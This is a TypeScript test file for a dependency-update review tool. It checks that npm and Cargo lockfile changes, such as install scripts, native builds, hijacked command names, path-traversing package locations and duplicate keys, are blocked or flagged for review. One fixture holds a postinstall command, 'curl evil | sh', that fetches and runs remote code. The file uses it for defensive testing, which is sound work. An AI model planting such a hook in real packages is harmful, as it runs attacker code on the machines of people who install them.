import { describe, expect, test } from 'vitest';
import type { Result } from '../../../src/core/result-schema.ts';
import { type LockedCrate, type LockedModule, packageLock } from './sample-repository.ts';
import { lockedAfter, modulesAfter, setScene } from './scene.ts';

const dependencies = { tool: '^2.0.0', web: '^4.2.0' };
const script = { scripts: { postinstall: 'curl evil | sh' } };

type Entries = Record<string, Record<string, unknown>>;

/** A lockfile of npm after an honest update, with its entries changed as told. */
function edited(edit: (entries: Entries) => void): string {
  const lock = JSON.parse(packageLock(dependencies, modulesAfter()));
  edit(lock.packages);
  return JSON.stringify(lock);
}

async function ofNpm(lock: readonly LockedModule[] | string): Promise<Result> {
  const scene = await setScene();
  const isText = typeof lock === 'string';
  const files = isText ? { 'package-lock.json': lock } : {};
  return scene.run(scene.openNpm(isText ? undefined : lock, files));
}

async function ofCargo(lock: readonly LockedCrate[]): Promise<Result> {
  const scene = await setScene();
  return scene.run(await scene.openCargo(lock));
}

function expectDecision(result: Result, decision: string, code: string): void {
  expect(result.outputs?.['decision']).toBe(decision);
  expect(result.findings.map((found) => found.code)).toContain(code);
}

describe('npm takes an entry of the lockfile for the package.json of the package', () => {
  test.each<[string, string, string, readonly LockedModule[] | string]>([
    [
      'a script of what comes',
      'block',
      'runs-on-install',
      modulesAfter({ web: { version: '4.2.0', ...script } }),
    ],
    [
      'a script of what it needs',
      'block',
      'runs-on-install',
      modulesAfter({ mime: { version: '1.1.0', ...script } }),
    ],
    [
      'a script of what stays',
      'block',
      'runs-on-install',
      modulesAfter({ tool: script }),
    ],
    [
      'a script at a second place of what stays',
      'block',
      'runs-on-install',
      edited((entries) => {
        entries['node_modules/web/node_modules/tool'] = {
          ...entries['node_modules/tool'],
          ...script,
        };
      }),
    ],
    [
      'a script of what was moved',
      'block',
      'runs-on-install',
      edited((entries) => {
        const { 'node_modules/mime': mime } = entries;
        entries['node_modules/web/node_modules/mime'] = { ...mime, ...script };
        delete entries['node_modules/mime'];
      }),
    ],
    [
      'a native build',
      'block',
      'runs-on-install',
      modulesAfter({ web: { version: '4.2.0', gypfile: true } }),
    ],
    [
      'that a script runs, which only the lockfile says',
      'review',
      'runs-on-install',
      modulesAfter({ web: { version: '4.2.0', hasInstallScript: true } }),
    ],
    [
      'the same of what stays',
      'review',
      'unexpected-change',
      modulesAfter({ tool: { hasInstallScript: true } }),
    ],
    [
      'commands under the names of others',
      'review',
      'unexpected-change',
      modulesAfter({ web: { version: '4.2.0', bin: { npm: 'x.js', node: 'x.js' } } }),
    ],
    [
      'a platform on which it is left out',
      'review',
      'unexpected-change',
      modulesAfter({ mime: { version: '1.1.0', os: ['aix'], optional: true } }),
    ],
    [
      'that it is bundled',
      'review',
      'unexpected-change',
      modulesAfter({ web: { version: '4.2.0', inBundle: true } }),
    ],
    [
      'a peer',
      'review',
      'unexpected-change',
      modulesAfter({ web: { version: '4.2.0', peerDependencies: { evil: '*' } } }),
    ],
    [
      'that it needs more',
      'review',
      'unexpected-change',
      modulesAfter({
        web: { version: '4.2.0', needs: { mime: '^1.1.0', tool: '^2.0.0' } },
      }),
    ],
  ])('%s is %s', async (_, decision, code, lock) => {
    expectDecision(await ofNpm(lock), decision, code);
  });
});

describe('what is missing in a lockfile, whoever installs takes the newest of', () => {
  test.each([
    ['with its edge', { version: '4.2.0', needs: undefined }],
    ['alone', { version: '4.2.0', needs: { mime: '^1.1.0' } }],
  ])('npm, what comes needs it: %s', async (_, web) => {
    const lock = modulesAfter({ web }).filter(({ name }) => name !== 'mime');
    expectDecision(await ofNpm(lock), 'review', 'unexpected-change');
  });

  test('cargo, what comes needs it', async () => {
    const serde = { version: '1.0.2', needs: [] };
    const lock = lockedAfter({ serde }).filter(({ name }) => name !== 'serde_core');
    expectDecision(await ofCargo(lock), 'review', 'unexpected-change');
  });

  test('npm, what it needs is there in a version that it does not take', async () => {
    const lock = modulesAfter({
      web: { version: '4.2.0', needs: {} },
      mime: { version: '1.0.0' },
    });
    expectDecision(await ofNpm(lock), 'review', 'unexpected-change');
  });
});

test('cargo, what stays is given something that it does not ask for', async () => {
  const lock = lockedAfter({ log: { needs: ['other'] } });
  expectDecision(await ofCargo(lock), 'review', 'unexpected-change');
});

describe('a package lies where its name says', () => {
  test.each([
    'node_modules/mime',
    'node_modules/react',
    'node_modules/tool/node_modules/fs-extra',
    'node_modules/../src',
    '../node_modules/tool',
    'src/node_modules/tool',
    '/etc/node_modules/tool',
  ])('and not in %s', async (place) => {
    const lock = edited((entries) => {
      entries[place] = { ...entries['node_modules/tool'], name: 'tool' };
    });
    expectDecision(await ofNpm(lock), 'block', 'new-source');
  });
});

test('A key that stands twice is refused: readers differ in which they take', async () => {
  const lock = packageLock(dependencies, modulesAfter()).replace(
    '"node_modules/web":',
    '"node_modules/web":{},"node_modules/web":',
  );
  expectDecision(await ofNpm(lock), 'review', 'needs-review');
});
